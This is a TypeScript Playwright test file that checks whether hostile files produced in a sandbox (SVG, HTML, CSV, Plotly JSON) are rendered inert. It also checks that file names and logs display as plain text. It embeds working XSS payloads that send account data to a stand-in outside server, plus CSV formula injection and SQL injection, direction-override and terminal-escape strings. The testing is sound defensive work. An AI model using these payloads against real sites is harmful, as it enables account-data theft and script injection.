import { createServer, type Server as Listener } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { fenced, type Server, sample } from './support/server'
import { settled } from './support/states'
import { expect, test } from './support/test'

// One success in two tries would be a hole.
test.describe.configure({ retries: 0 })

/** Somebody else's server: it must never hear anything. */
let heard: string[] = []
let listener: Listener
let foreign = ''
test.beforeAll(async () => {
  listener = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('heard')
  })
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done))
  foreign = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
})
test.afterAll(() => {
  listener.close()
})
test.beforeEach(() => {
  heard = []
})

/** What attacks from within a page: it calls out, and calls home with this origin's rights. */
const attack = () => `
  for (const target of [parent, top, self]) { try { target.pwned = 1; target.document.title = 'PWNED' } catch {} }
  try { localStorage.setItem('pwned', '1') } catch {}
  fetch('${foreign}/fetch', { mode: 'no-cors' }).catch(() => {})
  fetch('/api/v1/me').then((r) => r.text()).then((t) => { new Image().src = '${foreign}/me?' + encodeURIComponent(t) }).catch(() => {})
  try { navigator.sendBeacon('${foreign}/beacon', 'x') } catch {}
  try { new WebSocket('${foreign.replace('http', 'ws')}/ws') } catch {}
  try { window.open('${foreign}/popup') } catch {}
  try { top.location = '${foreign}/top' } catch {}
  new Image().src = '${foreign}/image'
  alert(1)`

const svg =
  () => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="${attack().replaceAll('"', "'").replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('\n', ' ')}">
<script>${attack().replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><image xlink:href="${foreign}/svg-image" width="9" height="9"/>
<rect width="80" height="40" fill="teal"/><foreignObject width="80" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${foreign}/svg-frame"></iframe></foreignObject></svg>`

const html = () => `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${foreign}/refresh">
<link rel="stylesheet" href="${foreign}/css"><script src="${foreign}/script"></script><base href="${foreign}/"></head>
<body onload="alert(1)"><h1>Hostile page</h1><img src="${foreign}/img" onerror="alert(2)"><iframe src="${foreign}/frame"></iframe>
<form action="${foreign}/form"><button autofocus>Go</button></form><video src="${foreign}/video" autoplay></video>
<script>${attack()}</script></body></html>`

const csv = () =>
  `name,formula\nlink,"=HYPERLINK(""${foreign}/csv"",""click"")"\nshell,=cmd|' /C calc'!A0\nat,@SUM(1)\nmarkup,<img src=${foreign}/csv-img onerror=alert(1)>\n`

const figure = () =>
  JSON.stringify({
    data: [{ type: 'bar', x: ['a', `<img src=${foreign}/fig onerror=alert(1)>`], y: [1, 2] }],
    layout: {
      title: { text: `<a href="javascript:alert(1)">x</a><img src="${foreign}/title" onerror="alert(1)">` },
      images: [{ source: `${foreign}/fig-image` }],
    },
  })

/** Names that attack; those that no sandbox lets out are simply not there. */
const NAMES = [
  '<img src=x onerror=alert(1)>.txt',
  'invoice\u202egnp.exe.txt',
  "'; drop table jobs; --.txt",
  '"onmouseover="alert(1).txt',
]

/** Code that leaves these files and prints this. */
function leaving(files: Record<string, string>, print = ''): string {
  const data = Buffer.from(JSON.stringify({ files, print })).toString('base64')
  return `import base64, json, pathlib
data = json.loads(base64.b64decode('${data}'))
for name, content in data['files'].items():
    pathlib.Path('/box/out', name).write_text(content)
print(data['print'])`
}

async function made(server: Server, code: string): Promise<string> {
  server.answers([fenced(code)])
  const id = await server.job(sample('bar_chart.png'), 'Attack')
  expect(await server.ended(id)).toBe('succeeded')
  return id
}

/** Opens every tab and everything within it that can be opened, as a curious person would; gives all that was to be read. */
async function lookAtEverything(page: Page): Promise<string> {
  let read = ''
  for (const tab of await page.getByRole('tab').all()) {
    await tab.click()
    await settled(page)
    for (const summary of await page.getByRole('tabpanel').locator('summary').all()) await summary.click()
    read += await page.getByRole('tabpanel').innerText()
  }
  return read
}

/** Nothing of it ran as ours, and nothing was heard outside. */
async function expectUnharmed(page: Page) {
  await page.waitForTimeout(1500)
  const harm = await page.evaluate(() => ({
    pwned: (window as unknown as { pwned?: number }).pwned,
    title: document.title.includes('PWNED'),
    stored: localStorage.getItem('pwned'),
  }))
  expect(harm).toEqual({ pwned: undefined, title: false, stored: null })
  expect(heard).toEqual([])
}

test.beforeEach(({ watch, scriptedPage }) => {
  // That the browser blocks something is the point.
  watch.expectError(/Content Security Policy|Blocked|blocked|Refused|refused|sandbox/i)
  scriptedPage.on('dialog', (dialog) => {
    watch.errors.push(`a dialog opened: ${dialog.message()}`)
    void dialog.dismiss()
  })
  scriptedPage.on('popup', (popup) => watch.errors.push(`a window opened: ${popup.url()}`))
})

// Protects this origin: whatever code leaves, none of it runs with the page's rights, and nobody outside hears of it.
test('pages, drawings, tables and charts that attack are shown and do nothing', async ({
  scriptedPage: page,
  scripted,
}) => {
  const files = {
    'evil.svg': svg(),
    'evil.html': html(),
    'evil.csv': csv(),
    'figure.json': figure(),
    'page.png': html(),
  }
  const id = await made(scripted, leaving(files))
  await page.goto(`${scripted.base}/jobs/${id}`)
  await settled(page)
  const read = await lookAtEverything(page)
  for (const name of Object.keys(files)) expect(read).toContain(name)
  await expectUnharmed(page)
})

// Protects links that people pass on: an output opened by its address runs nothing either.
test('outputs opened by their address run nothing', async ({ scriptedPage: page, scripted }) => {
  const id = await made(scripted, leaving({ 'evil.svg': svg(), 'evil.html': html(), 'page.png': html() }))
  await page.goto(scripted.base)
  for (const name of ['evil.svg', 'evil.html', 'page.png']) {
    const path = `/api/v1/jobs/${id}/outputs/${name}`
    const headers = await page.evaluate(async (url) => Object.fromEntries((await fetch(url)).headers), path)
    expect(headers['content-security-policy'], name).toMatch(/^sandbox; default-src 'none'/)
    expect(headers['x-content-type-options'], name).toBe('nosniff')
    expect(headers['content-disposition'], name).toMatch(/^attachment/)
    // A download, not a page: going there goes nowhere.
    await page
      .goto(scripted.base + path)
      .catch((error: Error) => expect(error.message).toMatch(/Download|ERR_ABORTED/))
  }
  await page.goto(scripted.base)
  await expectUnharmed(page)
})

// Protects readers of names and logs: markup is text, marks that turn the reading direction do not, colours of terminals
// are no noise.
test('names and logs are text', async ({ scriptedPage: page, scripted }) => {
  const esc = '\u001b'
  const print = `${esc}[31mred${esc}[0m ${esc}]8;;${foreign}/osc\u0007link${esc}]8;;\u0007 <script>alert(1)</script> \u202eevil`
  const id = await made(scripted, leaving(Object.fromEntries(NAMES.map((name) => [name, 'x'])), print))
  await page.goto(`${scripted.base}/jobs/${id}`)
  await settled(page)
  await lookAtEverything(page)
  await page.getByRole('tab', { name: 'Log' }).click()
  const shown = await page.getByRole('tabpanel').innerText()
  expect(shown).toContain('<script>alert(1)</script>')
  expect(shown).toContain('red')
  expect(shown).not.toContain(esc)
  for (const tab of ['Log', 'Result']) {
    await page.getByRole('tab', { name: tab }).click()
    const bare = await page.evaluate(() => {
      const isolates = /[\u202a-\u202e]/
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
      const found: string[] = []
      while (walker.nextNode())
        if (isolates.test(walker.currentNode.textContent ?? ''))
          found.push(walker.currentNode.textContent ?? '')
      return found
    })
    expect(bare, `reading direction turned in ${tab}`).toEqual([])
  }
  await expectUnharmed(page)
})
